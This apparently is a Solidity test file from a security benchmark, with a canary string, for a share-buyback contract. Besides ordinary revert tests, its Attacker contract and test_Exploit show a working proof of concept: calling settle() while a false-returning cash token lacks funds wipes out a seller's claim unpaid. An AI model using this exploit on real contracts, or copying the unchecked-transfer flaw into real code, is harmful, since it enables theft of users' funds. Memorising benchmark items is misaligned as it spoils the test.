// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./ShareBuyback.sol";

// assay-canary-f8f6e6fc-764c-4381-ba9d-caa72ebeac0c

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Share is ERC20("Share", "SHR") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        _mint(to, amount);
    }
}

// Answers false where it cannot move.
contract Cash {
    address private maker = msg.sender;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (balanceOf[msg.sender] < amount) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Share private share;
    Cash private cash;
    ShareBuyback private buyback;
    Attacker private mallory;

    function setUp() public {
        share = new Share();
        cash = new Cash();
        buyback = new ShareBuyback(share, IERC20(address(cash)), 8e18);
        cash.mint(address(buyback), 500e18);
        share.mint(ANA, 150e18);
        share.mint(BEN, 100e18);
        vm.startPrank(ANA);
        share.approve(address(buyback), 150e18);
        buyback.offer(100e18);
        vm.stopPrank();
        vm.prank(BEN);
        share.approve(address(buyback), 100e18);
        mallory = new Attacker(buyback);
    }

    // What Ana has in cash, or is still waiting for.
    function claimOfAna() public view returns (uint256) {
        return cash.balanceOf(ANA) + buyback.worth(0);
    }

    function test_Regular() public {
        vm.prank(BEN);
        buyback.offer(40e18);
        buyback.setPrice(9e18);
        vm.prank(BEN);
        buyback.offer(10e18);
        cash.mint(address(buyback), 2_000e18);
        buyback.settle();
        require(cash.balanceOf(ANA) == 800e18 && buyback.bought() == 100e18, "ana");
        vm.prank(BEN);
        buyback.drop(1);
        require(share.balanceOf(BEN) == 90e18, "dropped");
        buyback.settle();
        buyback.settle();
        require(cash.balanceOf(BEN) == 90e18 && buyback.bought() == 110e18 && buyback.head() == 3, "ben");
        buyback.retire(CAT);
        require(share.balanceOf(CAT) == 110e18 && buyback.bought() == 0, "retired");
        buyback.takeCash(1_000e18);
        require(cash.balanceOf(address(this)) == 1_000e18, "taken");
    }

    function test_RefusesOpenings() public {
        vm.expectRevert("!share");
        new ShareBuyback(IERC20(address(0)), share, 1);
        vm.expectRevert("!cash");
        new ShareBuyback(share, IERC20(address(0)), 1);
        vm.expectRevert("!same");
        new ShareBuyback(share, share, 1);
        vm.expectRevert("!price");
        new ShareBuyback(share, IERC20(address(cash)), 0);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("!board");
        buyback.setPrice(1);
        vm.expectRevert("!board");
        buyback.takeCash(1);
        vm.expectRevert("!board");
        buyback.retire(ANA);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert("!seller");
        buyback.drop(0);
    }

    function test_RefusesValues() public {
        vm.expectRevert("!price");
        buyback.setPrice(0);
        vm.expectRevert("!to");
        buyback.retire(address(0));
        vm.expectRevert("!bought");
        buyback.retire(CAT);
        vm.prank(BEN);
        vm.expectRevert("!shares");
        buyback.offer(1e18 - 1);
        cash.mint(address(buyback), 2_000e18);
        buyback.settle();
        vm.expectRevert("!offers");
        buyback.settle();
        vm.prank(ANA);
        vm.expectRevert("!waiting");
        buyback.drop(0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(claimOfAna() == 0, "ana is owed");
    }

    function target() public view returns (address) {
        return address(buyback);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ShareBuyback private buyback;

    constructor(ShareBuyback _buyback) {
        buyback = _buyback;
    }

    function run() external {
        buyback.settle();
    }
}
